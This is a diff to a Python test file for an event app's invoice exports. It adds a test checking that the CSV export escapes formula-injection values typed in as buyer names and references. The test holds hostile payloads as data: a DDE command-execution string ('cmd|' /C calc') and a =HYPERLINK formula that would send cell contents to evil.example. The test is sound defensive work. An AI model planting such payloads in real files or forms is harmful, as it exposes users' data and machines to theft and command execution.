@@ -1,4 +1,6 @@
 """The invoice as PDF, Peppol UBL, SIE and CSV: the fields the law and the rule sets ask for."""
+import csv
+import io
 import shutil
 import subprocess
 from decimal import Decimal
@@ -11,6 +13,7 @@ from stdnum.se import orgnr
 from eventapp.exports.invoice_csv import invoices_csv
 from eventapp.exports.invoice_pdf import invoice_pdf
 from eventapp.exports.sie import SieAccounts, sie_file
+from eventapp.exports.tabular import safe_text
 from eventapp.models import VatTreatment
 from eventapp.services import invoicing, noshow
 
@@ -149,6 +152,22 @@ def test_csv_lists_invoices_and_neutralises_formulas(issued, ctx):
     hostile_event = invoice.event
     hostile_event.title = "=cmd|' /C calc'!A0"
     assert ";'=cmd|' /C calc'!A0;" in invoices_csv([invoice]).decode("utf-8-sig")
+
+
+def test_csv_escapes_a_buyer_named_like_a_formula(ctx, now):
+    """A buyer typed as =HYPERLINK(…) on the public form: does the CSV hold it as text, as the attendee lists do?"""
+    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'
+    event, at = past_event(now)
+    no_show(event, at, 1, organisation=hyperlink, organisation_kind="company", org_number="556677-8899",
+            invoice_reference="@SUM(1+1)*cmd|' /C calc'!A0")
+    [invoice] = approved_and_issued(event, now, staff("organiser"), staff("finance")).invoices
+    credit = invoicing.credit_invoice(invoice.id, actor=staff("finance"), now=now)
+    [header, invoice_row, credit_row] = csv.reader(io.StringIO(invoices_csv([invoice, credit]).decode("utf-8-sig")),
+                                                   delimiter=";")
+    row = dict(zip(header, invoice_row, strict=True))
+    assert row["Köpare"] == safe_text(hyperlink) == "'" + hyperlink
+    assert row["Referens"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["Totalt"] == "312,50" and dict(zip(header, credit_row, strict=True))["Totalt"] == "-312,50"
 
 
 
